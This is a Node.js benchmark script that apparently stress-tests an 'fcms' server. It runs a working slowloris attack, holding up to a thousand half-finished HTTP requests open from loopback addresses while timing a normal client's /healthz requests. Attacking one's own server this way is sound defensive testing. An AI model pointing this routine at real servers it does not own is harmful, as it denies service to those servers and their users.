// Slow-header attack against a running fcms, and a normal client timing its requests meanwhile.
// The attacker keeps CONNS connections open from several loopback addresses (127.0.0.2..6 —
// Linux routes all of 127/8 to lo), each sending a request head one header line every LINE_MS
// and never finishing it; a connection the server closes is opened again at once. The normal
// client (127.0.0.1) asks GET /healthz on a fresh connection every PROBE_MS and notes how long
// the answer took (a 1 s timeout counts as a failure).
//
//   node bench/slowloris.mjs [conns=1000] [seconds=30]          starts its own fcms (build/fcms)
//   FCMS_URL=http://127.0.0.1:8080 node bench/slowloris.mjs ...  attacks a running one
//
// Prints the attack's numbers and the normal client's latencies (max, p50, p99, failures).
// The API test tests/api/abuse-http.test.mjs runs a smaller attack with the same function.
import net from 'node:net';
import http from 'node:http';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** One request on a fresh connection; resolves {ok, ms, status}. Never rejects. */
export function probe(port, { timeoutMs = 1000, localAddress = '127.0.0.1', pathName = '/healthz' } = {}) {
  const t0 = performance.now();
  return new Promise((resolve) => {
    let done = false;
    const finish = (ok, status) => { if (!done) { done = true; resolve({ ok, status, ms: performance.now() - t0 }); } };
    const req = http.request({ host: '127.0.0.1', port, path: pathName, localAddress, agent: false,
      headers: { Connection: 'close' } }, (res) => { res.resume(); res.on('end', () => finish(res.statusCode === 200, res.statusCode)); });
    const timer = setTimeout(() => { req.destroy(); finish(false, 0); }, timeoutMs);
    req.on('error', () => finish(false, 0));
    req.on('close', () => clearTimeout(timer));
    req.end();
  });
}

/**
 * Runs the attack for `seconds` while probing. Returns
 * {opened, closedByServer, peakOpen, probes: [{ok, ms, status}], maxMs, p50, p99, failures}.
 */
export async function slowloris({ port, conns = 1000, seconds = 30, lineMs = 5000, probeMs = 500,
  addrs = ['127.0.0.2', '127.0.0.3', '127.0.0.4', '127.0.0.5', '127.0.0.6'], probeTimeoutMs = 1000,
  rampMs = 3000 } = {}) {
  let running = true, opened = 0, closedByServer = 0, open = 0, peakOpen = 0;
  const socks = new Set();
  function attack(i) {
    if (!running) return;
    const s = net.connect({ host: '127.0.0.1', port, localAddress: addrs[i % addrs.length] });
    socks.add(s);
    let line = 0, timer = null, counted = false;
    s.setNoDelay(true);
    s.on('connect', () => {
      opened++; open++; counted = true;
      if (open > peakOpen) peakOpen = open;
      s.write(`GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
      timer = setInterval(() => { s.write(`X-Slow-${line++}: ${'a'.repeat(20)}\r\n`); }, lineMs);
    });
    s.on('error', () => {});
    s.on('close', () => {
      clearInterval(timer);
      socks.delete(s);
      if (counted) open--;
      if (!running) return;
      closedByServer++;
      setTimeout(() => attack(i), 20); // straight back in, as an attacker would
    });
  }
  for (let i = 0; i < conns; i++) {
    attack(i);
    if (i % 50 === 49) await sleep(Math.max(1, Math.floor(rampMs / (conns / 50))));
  }
  const probes = [];
  const end = Date.now() + seconds * 1000;
  while (Date.now() < end) {
    const t = Date.now();
    probes.push(await probe(port, { timeoutMs: probeTimeoutMs }));
    const left = probeMs - (Date.now() - t);
    if (left > 0) await sleep(left);
  }
  running = false;
  for (const s of socks) s.destroy();
  const lat = probes.map((p) => p.ms).sort((a, b) => a - b);
  const pct = (q) => lat.length ? lat[Math.min(lat.length - 1, Math.floor(q * lat.length))] : NaN;
  return { opened, closedByServer, peakOpen, openAtEnd: open, probes, maxMs: lat[lat.length - 1],
    p50: pct(0.5), p99: pct(0.99), failures: probes.filter((p) => !p.ok).length };
}

async function main() {
  const conns = Number(process.argv[2] || 1000), seconds = Number(process.argv[3] || 30);
  let port, child, dir;
  if (process.env.FCMS_URL) {
    port = Number(new URL(process.env.FCMS_URL).port);
  } else {
    const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
    const bin = path.resolve(repo, process.env.FCMS_BIN || 'build/fcms');
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fcms-slowloris-'));
    port = 20000 + Math.floor(Math.random() * 10000);
    child = spawn(bin, ['serve', '--listen', `127.0.0.1:${port}`, '--data', dir, '--web', '/nonexistent'],
      { env: { ...process.env, FCMS_ADMIN_PASSWORD: 'Bench@12345678' }, stdio: ['ignore', 'ignore', 'inherit'] });
    for (let i = 0; i < 100 && !(await probe(port, { timeoutMs: 500 })).ok; i++) await sleep(100);
  }
  const before = await probe(port);
  console.log(`slowloris: ${conns} slow connections from 127.0.0.2-6 for ${seconds} s against port ${port}` +
    ` (normal client before: ${before.ms.toFixed(1)} ms)`);
  const r = await slowloris({ port, conns, seconds });
  console.log(`attack: opened ${r.opened} connections, ${r.closedByServer} cut by the server, peak ${r.peakOpen} open at once`);
  console.log(`normal client: ${r.probes.length} requests, ${r.failures} failed (1 s timeout),` +
    ` p50 ${r.p50.toFixed(1)} ms, p99 ${r.p99.toFixed(1)} ms, max ${r.maxMs.toFixed(1)} ms`);
  if (child) { child.kill('SIGTERM'); await new Promise((res) => child.on('exit', res)); fs.rmSync(dir, { recursive: true, force: true }); }
  process.exitCode = r.failures ? 1 : 0;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === path.resolve(process.argv[1])) main();
